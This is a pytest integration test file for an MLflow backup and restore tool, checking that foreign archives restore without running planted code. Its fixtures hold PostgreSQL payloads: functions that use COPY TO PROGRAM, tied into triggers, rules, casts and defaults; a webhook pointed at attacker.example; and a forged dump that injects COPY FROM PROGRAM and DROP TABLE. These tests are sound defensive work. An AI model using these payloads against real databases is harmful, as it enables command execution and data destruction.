"""An archive that somebody else made: its experiments are restored, and nothing in it is run."""

from __future__ import annotations

import io
import json
import os
import re
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from helpers.backups import archive
from tests.conftest import Clone, require_docker
from tests.integration import inspection
from tests.integration.test_backup import api, everything, experiment, get, log_run
from tests.integration.test_upgrade import use_database

pytestmark = pytest.mark.transfer

# what the owner of a database may add to it; each calls f() when it is restored or first used
PLANTED = """
CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN
  IF current_database() <> '{live}' THEN COPY (SELECT 1) TO PROGRAM 'touch {mark}'; END IF; RETURN 1; END $$;
CREATE FUNCTION g(anyelement) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT public.f() = 1';
CREATE FUNCTION h() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.f(); RETURN NEW; END';
CREATE MATERIALIZED VIEW planted_v AS SELECT f();
CREATE TABLE planted (a int DEFAULT f(), CHECK (g(a)));
INSERT INTO planted VALUES (1);
CREATE INDEX planted_i ON runs (g(name));
CREATE VIEW planted_w AS SELECT f();
ALTER TABLE tags ADD CONSTRAINT planted_c CHECK (g(key));
ALTER TABLE params ALTER COLUMN value SET DEFAULT f()::text;
CREATE TRIGGER planted_t AFTER INSERT ON runs FOR EACH ROW EXECUTE FUNCTION h();
CREATE RULE planted_r AS ON INSERT TO experiment_tags DO ALSO SELECT f();
CREATE FUNCTION planted_text(runs) RETURNS text LANGUAGE sql AS 'SELECT public.f()::text';
CREATE CAST (runs AS text) WITH FUNCTION planted_text(runs);
CREATE SCHEMA planted;
CREATE TABLE planted.runs (a int);
SELECT lo_from_bytea(0, 'x');
"""
# rows of MLflow's own tables that would make a server act by itself
ACTING = """
INSERT INTO jobs (id, creation_time, job_name, params, status, retry_count, last_update_time)
  VALUES ('planted', 1, 'invoke_scorer', '{}', 0, 0, 1), ('ended', 1, 'invoke_scorer', '{}', 2, 0, 1);
INSERT INTO job_locks VALUES ('planted', 'planted', 1);
INSERT INTO scorers VALUES (0, 'planted', 'planted');
INSERT INTO online_scoring_configs VALUES ('planted', 'planted', 1.0, 0, NULL);
INSERT INTO webhooks (webhook_id, name, url) VALUES ('planted', 'planted', 'https://attacker.example/hook');
"""
ACTED = """
DELETE FROM jobs WHERE id IN ('planted', 'ended'); DELETE FROM job_locks WHERE job_id = 'planted';
DELETE FROM online_scoring_configs WHERE scorer_id = 'planted'; DELETE FROM scorers WHERE scorer_id = 'planted';
DELETE FROM webhooks WHERE webhook_id = 'planted';
"""
GONE = """
DROP CAST (runs AS text); DROP RULE planted_r ON experiment_tags; DROP TRIGGER planted_t ON runs;
ALTER TABLE params ALTER COLUMN value DROP DEFAULT; ALTER TABLE tags DROP CONSTRAINT planted_c; DROP INDEX planted_i;
DROP SCHEMA planted CASCADE; DROP VIEW planted_w; DROP TABLE planted; DROP MATERIALIZED VIEW planted_v;
DROP FUNCTION planted_text(runs), f(), g(anyelement), h() CASCADE;
SELECT lo_unlink(oid) FROM pg_largeobject_metadata;
"""


@pytest.fixture
def clone(own: dict[str, Clone], engine: str) -> Clone:
    if engine == "docker":
        require_docker()
    return own[engine]


@pytest.fixture
def mark() -> Iterator[Path]:
    """What a command of the archive would make, in the database's container or on this machine."""
    path = Path(f"/tmp/owned-{secrets.token_hex(4)}")
    yield path
    path.unlink(missing_ok=True)


def ran(clone: Clone, mark: Path) -> bool:
    if clone.engine == "docker":
        return (
            inspection.run(
                "docker", "exec", inspection.container(clone, "postgres"), "test", "-e", str(mark)
            ).returncode
            == 0
        )
    return mark.exists()


def test_what_is_not_mlflows_is_left_out_and_never_runs(clone: Clone, mark: Path, tmp_path: Path) -> None:
    run = log_run(clone, experiment(clone), "honest", b"content")
    inspection.psql(clone, ACTING + PLANTED.format(live=inspection.active_database(clone), mark=mark))
    try:
        clone.value("backup", f"--to={tmp_path}/a.tar")
        expected = everything(clone)
    finally:
        inspection.psql(clone, ACTED + GONE)
    root = run["info"]["artifact_uri"].removeprefix("mlflow-artifacts:/")
    # of a store that keeps both
    forged(tmp_path / "a.tar", tmp_path / "b.tar", more={f"{root}/a": b"file", f"{root}/a/b": b"below"})
    done = clone.invoke("restore", f"{tmp_path}/b.tar", "--yes", "--no-backup")
    assert done.returncode == 0, done.stderr
    assert everything(clone) == expected and not ran(clone, mark)
    renamed = re.search(r"renamed, because this store .*'a(?:/b)?' is now '(a \(f.*)'", done.stderr)
    assert renamed, done.stderr
    names = {
        renamed[1]: b"below" if "/" in renamed[1] else b"file",
        **({"a": b"file"} if "/" in renamed[1] else {"a/b": b"below"}),
    }
    assert {name: get(clone, run, name) for name in names} == names
    for left in (
        "MATERIALIZED VIEW public planted_v",
        "FUNCTION public f()",
        "TABLE DATA public planted",
        "TRIGGER public runs planted_t",
        "INDEX public planted_i",
        "RULE public experiment_tags planted_r",
        "TABLE planted runs",
        "CAST - CAST (public.runs AS text)",
    ):
        assert f"left out, because it is not MLflow's: {left}\n" in done.stderr, done.stderr
    assert inspection.psql(clone, "SELECT count(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace") == "1"
    assert inspection.psql(clone, "SELECT string_agg(id || status, ' ' ORDER BY id) FROM jobs") == "ended2 planted5"
    assert inspection.psql(clone, "SELECT sample_rate FROM online_scoring_configs") == "0"
    assert inspection.psql(clone, "SELECT count(*) FROM job_locks") == "0"
    for reported in (
        "1 jobs of MLflow that had not ended were cancelled",
        "automatic scoring is off for 1 judges",
        "webhooks send what happens to models to https://attacker.example/hook:",
    ):
        assert reported in done.stderr
    inspection.psql(clone, ACTED)
    log_run(clone, experiment(clone), "goes on", b"more")
    assert not ran(clone, mark)


@pytest.mark.parametrize("kind", ["program", "statement"])
def test_a_dump_that_pg_dump_did_not_write(clone: Clone, mark: Path, tmp_path: Path, kind: str) -> None:
    """Its table of contents holds SQL, which anybody may change."""
    clone.value("backup", f"--to={tmp_path}/a.tar")
    forged(
        tmp_path / "a.tar",
        tmp_path / "b.tar",
        *{
            "program": (
                b"COPY public.experiment_tags (key, value, experiment_id) FROM stdin;",
                f"COPY public.tags FROM PROGRAM 'touch {mark}';",
            ),
            "statement": (
                b"SELECT pg_catalog.setval('public.experiments_experiment_id_seq', ",
                "DROP TABLE public.runs; --",
            ),
        }[kind],
    )
    before, known = everything(clone), state(clone)
    done = clone.invoke("restore", f"{tmp_path}/b.tar", "--yes", "--no-backup")
    inspection.refused(done, 1, "database dump holds a statement", "use another backup")
    assert not ran(clone, mark) and everything(clone) == before
    assert state(clone) == known


def state(clone: Clone) -> dict[str, Any]:
    """What a task must keep, without what it last saw of the processes."""
    content: dict[str, Any] = json.loads((clone.project_folder / "state.json").read_text())
    return {key: value for key, value in content.items() if key != "applied"}


def forged(source: Path, target: Path, old: bytes = b"", new: str = "", more: dict[str, bytes] | None = None) -> None:
    """The same archive around a dump with other bytes in it, of the same length, and with ``more`` objects."""
    manifest = archive.verify(source)
    with target.open("wb") as stream:
        writer = archive.Writer(stream, {key: manifest[key] for key in ("made", "project", "engine", "machine")})
        dump = b""
        for name, size, content in archive.members(source, manifest):
            if name.startswith("database/"):
                dump += content.read()
                continue
            if dump:
                assert not old or (dump.count(old) == 1 and len(new) <= len(old))
                writer.database(io.BytesIO(dump.replace(old, new.encode().ljust(len(old))) if old else dump))
                dump = b""
            if name.startswith("objects/"):
                writer.object(name.removeprefix("objects/"), size, content)
            elif name in archive.SMALL and name != "trackbed.json":
                writer.small(name, content.read())
        for name, added in (more or {}).items():
            writer.object(name, len(added), io.BytesIO(added))
        writer.finish({key: manifest[key] for key in ("schema", "tables", "mlflow")})


OLD = "0584bdc529eb"  # MLflow 2.20


def test_an_archive_of_an_older_mlflow(own: dict[str, Clone], tmp_path: Path) -> None:
    """Its tables are made as that MLflow had them, filled, and then migrated."""
    clone = own["embedded"]
    before, active = everything(clone), inspection.active_database(clone)
    with inspection.empty_database(clone, "mlflow_older") as address:
        entry = clone.project_folder / "embedded" / "app" / "start.py"
        inspection.output(
            *inspection.mlflow_python(clone),
            str(entry),
            "make",
            OLD,
            timeout=300,
            env={"PATH": os.environ["PATH"], "MLFLOW_BACKEND_STORE_URI": address},
        )
        inspection.psql(clone, OLD_ROWS, "mlflow_older")
        use_database(clone, "mlflow_older")
        try:
            clone.value("backup", f"--to={tmp_path}/old.tar")
        finally:
            use_database(clone, active)
    clone.value("backup", f"--to={tmp_path}/new.tar")
    done = clone.invoke("restore", f"{tmp_path}/old.tar", "--yes", "--no-backup")
    assert done.returncode == 0 and "migrating the copy" in done.stderr and "left out" not in done.stderr, done.stderr
    run = api(clone, "runs/get", run_id="1" * 32)["run"]
    assert run["info"]["run_name"] == "old ü" and run["data"]["metrics"][0]["value"] == 0.5
    assert clone.invoke("restore", f"{tmp_path}/new.tar", "--yes", "--no-backup").returncode == 0
    assert everything(clone) == before


OLD_ROWS = f"""
INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage)
  VALUES (7, 'old', 'mlflow-artifacts:/7', 'active');
INSERT INTO runs (run_uuid, name, source_type, source_name, entry_point_name, source_version, user_id, status,
                  start_time, end_time, experiment_id, lifecycle_stage, artifact_uri)
  VALUES ('{"1" * 32}', 'old ü', 'LOCAL', '', '', '', 'ann', 'FINISHED', 1, 2, 7, 'active',
          'mlflow-artifacts:/7/{"1" * 32}/artifacts');
INSERT INTO metrics (key, value, timestamp, run_uuid, step, is_nan) VALUES ('m', 0.5, 1, '{"1" * 32}', 0, false);
INSERT INTO latest_metrics (key, value, timestamp, run_uuid, step, is_nan)
  VALUES ('m', 0.5, 1, '{"1" * 32}', 0, false);
"""
